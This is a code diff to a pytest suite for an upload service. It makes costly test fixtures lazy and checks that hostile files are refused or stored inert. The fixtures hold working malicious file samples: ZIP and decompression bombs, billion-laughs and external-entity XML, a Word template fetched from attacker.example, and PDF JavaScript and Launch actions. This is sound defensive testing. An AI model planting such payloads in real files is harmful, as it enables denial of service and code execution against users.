@@ -76,14 +76,19 @@ def in_odt(text: str) -> bytes:
     return odt(parts={"styles.xml": text})
 
 
+def made(content: Any) -> Any:
+    """What a table holds; what takes long to make is made when it is sent."""
+    return content() if callable(content) else content
+
+
 # What is never a file of ours, beside what the rules' own tests have.
-BOMBS = {
+BOMBS: dict[str, Any] = {
     "a directory that says it is everything": REFUSED["a document of too many parts"][0],
     "parts that lie over one another": REFUSED["a bomb of parts that overlap"][0],
     "a gigabyte, by its directory": REFUSED["a bomb"][0],
-    "a manifest that says it is short": lying_manifest(),
+    "a manifest that says it is short": lying_manifest,
     "a manifest without end": REFUSED["an OpenDocument with a huge manifest"][0],
-    "a ZIP within a ZIP": packed({"a.zip": nested(3).decode("latin-1")}),
+    "a ZIP within a ZIP": lambda: packed({"a.zip": nested(3).decode("latin-1")}),
     "a ZIP of 64 bits": docx()[:-22] + b"PK\x06\x07" + bytes(16) + docx()[-22:],
     "a picture of four thousand million dots": (
         b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff\xff\xff\xff" * 2 + b"\x08\x06\0\0\0" + bytes(4)
@@ -155,7 +160,7 @@ def unfilled(untouched: Siege) -> Iterator[Siege]:
 
 @pytest.mark.parametrize("name", BOMBS)
 def test_no_bomb_goes_off(unfilled: Siege, name: str) -> None:
-    answer = send(unfilled, form(BOMBS[name], "plan.docx"))
+    answer = send(unfilled, form(made(BOMBS[name]), "plan.docx"))
     assert answer.status_code == 400, answer.text
     assert [fault["pointer"] for fault in answer.json()["errors"]] == ["#/file"]
 
@@ -169,7 +174,7 @@ def test_nothing_is_taken_in_that_is_something_else_too(unfilled: Siege, name: s
         assert [fault["pointer"] for fault in answer.json()["errors"]] == ["#/file"]
 
 
-WITHIN = {
+WITHIN: dict[str, Any] = {
     "entities that grow, in Word": packed({**WORD, "word/document.xml": LAUGHS}),
     "entities that grow, in its list of parts": packed({**WORD, "[Content_Types].xml": LAUGHS}),
     "an entity from a file, in Word": packed({**WORD, "word/document.xml": OUTSIDE}),
@@ -182,8 +187,8 @@ WITHIN = {
     "a template from the network": packed(
         {**WORD, "word/_rels/settings.xml.rels": '<Relationship Target="http://attacker.example/x.dotm"/>'}
     ),
-    "a ZIP within a ZIP, in Word": nested(3),
-    "a part that says it is short": lying(2 * 1024**2),
+    "a ZIP within a ZIP, in Word": lambda: nested(3),
+    "a part that says it is short": lambda: lying(2 * 1024**2),
     "a script in a PDF": PDF.replace(b"/Pages", b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/Pages"),
     "a program to launch in a PDF": PDF.replace(b"/Pages", b"/AA<</O<</S/Launch/F(calc)>>>>/Pages"),
     "a page behind a photo's remark": picture("image/jpeg")[:2]
@@ -195,17 +200,18 @@ WITHIN = {
 @pytest.mark.parametrize("name", WITHIN)
 def test_what_is_taken_in_is_never_read(siege: Siege, name: str) -> None:
     """It comes out to the letter, as a file to save, of the kind that it was found to be."""
-    answer = send(siege, form(WITHIN[name], "plan.html", "text/html"))
+    content: bytes = made(WITHIN[name])
+    answer = send(siege, form(content, "plan.html", "text/html"))
     assert answer.status_code == 201, answer.text
-    made = answer.json()
-    assert made["name"].rpartition(".")[2] in ("pdf", "docx", "odt", "jpg")
-    given = siege.world.provider.get(f"/v1/files/{made['id']}/content")
-    assert given.content == WITHIN[name]
-    assert given.headers["content-type"] == made["mediaType"]
+    file = answer.json()
+    assert file["name"].rpartition(".")[2] in ("pdf", "docx", "odt", "jpg")
+    given = siege.world.provider.get(f"/v1/files/{file['id']}/content")
+    assert given.content == content
+    assert given.headers["content-type"] == file["mediaType"]
     assert "html" not in given.headers["content-type"]
     assert given.headers["content-disposition"].startswith("attachment;")
     assert "default-src 'none'" in given.headers["content-security-policy"]
-    remove(siege, made["id"])
+    remove(siege, file["id"])
 
 
 NAMES: dict[str, str | bytes] = {
@@ -377,7 +383,7 @@ def flate(size: int) -> bytes:
 
 
 CHECKED: dict[str, dict[str, Any]] = {
-    "an attachment that unpacks to 200 MB": {"pdf": flate(200 * 1024**2)},
+    "an attachment that unpacks to 200 MB": {"pdf": lambda: flate(200 * 1024**2)},
     "attachments without end": {
         "pdf": b"%PDF-1.7\n"
         + b"1 0 obj<</Type/EmbeddedFile>>stream\n{}\nendstream endobj\n" * 10_000
@@ -408,9 +414,10 @@ CHECKED: dict[str, dict[str, Any]] = {
 
 @pytest.mark.parametrize("name", CHECKED)
 def test_no_credential_or_pdf_keeps_the_check_busy(untouched: Siege, name: str) -> None:
+    sent = {key: made(value) for key, value in CHECKED[name].items()}
     body = {
         key: base64.b64encode(value).decode() if isinstance(value, bytes) else value
-        for key, value in CHECKED[name].items()
+        for key, value in sent.items()
     }
     began = time.monotonic()
     answer = untouched.world.http.post("/v1/verifications", json=body)
